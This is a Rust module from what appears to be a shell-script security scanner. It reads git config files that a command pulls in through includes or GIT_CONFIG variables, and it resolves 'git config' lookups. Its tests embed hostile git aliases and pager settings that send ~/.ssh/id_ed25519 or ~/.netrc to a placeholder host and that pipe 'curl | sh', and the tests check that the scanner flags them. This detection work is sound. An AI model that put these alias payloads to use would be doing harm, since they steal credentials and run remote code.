//! Files of git's settings that a command is given: what they have run, and what others ask them for by name.

use super::value::Value;
use super::walk::Walk;

/// 400 settings of one file.
const SETTINGS: usize = 400;

/// 4 files of which each includes the next one.
const NESTED: usize = 4;

/// Variables that name such a file.
const VARIABLES: &[&str] = &["GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG"];

impl Walk<'_> {
    /// Takes over the settings of the file at `path`, and judges what they have run.
    pub(super) fn includes(&mut self, path: &str) {
        self.includes_at(path, NESTED);
    }

    fn includes_at(&mut self, path: &str, deep: usize) {
        let path = path.trim_matches(['"', '\'']);
        let Some(text) = self.file_text(path).filter(|_| self.memory.is_new(path)) else { return };
        let all = settings(&text);
        self.memory.settings.extend(all.iter().cloned());
        for (key, value) in &all {
            let is_include = key == "include.path" || key.starts_with("includeif.") && key.ends_with(".path");
            if is_include && deep > 0 {
                self.includes_at(value, deep.saturating_sub(1));
            } else if !is_include {
                self.keyed(key, value);
            }
        }
    }

    /// The file that a variable makes git read.
    pub(super) fn included_by_variable(&mut self, name: &str, value: &Value) {
        if VARIABLES.contains(&name) && !value.text.starts_with("/dev/") {
            self.includes(&value.text);
        }
    }

    /// What `git config` prints of a setting that is known.
    pub(super) fn setting(&mut self, rest: &[Value]) -> Option<String> {
        let at = rest.iter().position(|field| field.text == "config")?;
        let (mut names, mut file) = (Vec::new(), None);
        let mut fields = rest.get(at.saturating_add(1)..)?.iter().map(|field| field.text.as_str());
        while let Some(text) = fields.next() {
            match text {
                "-f" | "--file" => file = fields.next(),
                "--type" | "--default" => drop(fields.next()),
                option if option.starts_with("--file=") => file = option.strip_prefix("--file="),
                option if option.starts_with('-') => {}
                "get" if names.is_empty() => {}
                name => names.push(name.to_ascii_lowercase()),
            }
        }
        let [name] = names.as_slice() else { return None };
        let value = match file {
            Some(path) => {
                let all = settings(&self.file_text(path)?);
                all.into_iter().rev().find(|(key, _)| key == name).map(|(_, value)| value)
            }
            None => self.memory.settings.get(name).cloned(),
        };
        value.map(|value| format!("{value}\n"))
    }
}

/// The settings of a text: `section.name` or `section.part.name` in lower case, and the value.
fn settings(text: &str) -> Vec<(String, String)> {
    let joined = text.replace("\\\r\n", "").replace("\\\n", "");
    let mut section = String::new();
    let mut all = Vec::new();
    for line in joined.lines().take(SETTINGS) {
        let mut line = line.trim();
        if let Some((inside, after)) = line.strip_prefix('[').and_then(|rest| rest.split_once(']')) {
            let plain = inside.replace('"', "");
            section = plain.splitn(2, ' ').map(str::trim).collect::<Vec<_>>().join(".").to_ascii_lowercase();
            line = after.trim();
        }
        let is_said = !line.is_empty() && !line.starts_with(['#', ';']) && !section.is_empty();
        if is_said {
            let (name, value) = line.split_once('=').unwrap_or((line, "true"));
            all.push((format!("{section}.{}", name.trim().to_ascii_lowercase()), plain(value.trim())));
        }
    }
    all
}

/// A value without its quotes and what follows a sign of comments outside of them.
fn plain(value: &str) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let mut letters = value.chars();
    while let Some(letter) = letters.next() {
        match letter {
            '\\' => match letters.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                other => out.extend(other),
            },
            '"' => quoted = !quoted,
            '#' | ';' if !quoted => break,
            other => out.push(other),
        }
    }
    out.trim_end().to_owned()
}

#[cfg(test)]
mod tests {
    use crate::finding::{Findings, Place, Severity};
    use crate::shell::{Context, judge_beside};

    fn worst(line: &str, settings: &str) -> Option<Severity> {
        let lies = |path: &str| path.ends_with("a.gitconfig").then(|| settings.to_owned());
        let mut findings = Findings::default();
        let _followed = judge_beside((&Place::file("a.sh"), line), Some(&lies), Context::Script, &mut findings);
        findings.finish().first().map(|finding| finding.severity)
    }

    #[test]
    fn what_settings_of_the_plugin_have_run_is_judged() {
        let sends = "[place]\n\tkey = .ssh/id_ed25519\n[alias]\n\tpost = \"!f() { curl -s --data-binary @\\\"$HOME/$(git config place.key)\\\" https://a.invalid; }; f\"\n";
        let runs = "[alias]\n\tsync = \"!curl -s https://a.invalid/x \\\n | sh\" ; all\n";
        let pages = "[core] pager = curl -s https://a.invalid/x | sh\n";
        for line in [
            "git -c include.path=\"$d/a.gitconfig\" post",
            "GIT_CONFIG_GLOBAL=\"$d/a.gitconfig\" git log",
            "export GIT_CONFIG_SYSTEM=\"$d/a.gitconfig\"\ngit status",
        ] {
            for settings in [sends, runs, pages] {
                assert_eq!(worst(line, settings), Some(Severity::Danger), "{line}: {settings}");
            }
            for calm in [
                "[alias]\n\trecent = log -5 --pretty=short\n\troot = \"!pwd\"\n[core]\n\tpager = less\n",
                "[alias]\n\tlast = \"!f() { git log -1 \\\"$@\\\"; }; f\"\n# curl https://a.invalid | sh\n",
            ] {
                assert!(worst(line, calm).is_none_or(|worst| worst < Severity::Danger), "{line}: {calm}");
            }
        }
    }

    #[test]
    fn settings_that_are_asked_for_by_name_are_known() {
        let settings = "[get \"now\"]\n\ttool = curl\n\tFrom = https://a.invalid/x\n[place]\n\tkey = .netrc\n";
        for line in [
            "c=$(git config -f \"$d/a.gitconfig\" get.now.tool)\n$c -s \"$(git config --file=a.gitconfig --get get.now.from)\" | sh",
            "curl -sT \"$HOME/$(git config -f a.gitconfig place.key)\" https://a.invalid",
        ] {
            assert_eq!(worst(line, settings), Some(Severity::Danger), "{line}");
        }
        let calm = "n=$(git config user.name)\necho \"$n\" \"$(git config -f a.gitconfig place.other)\"";
        assert!(worst(calm, settings).is_none_or(|worst| worst < Severity::Danger));
    }
}
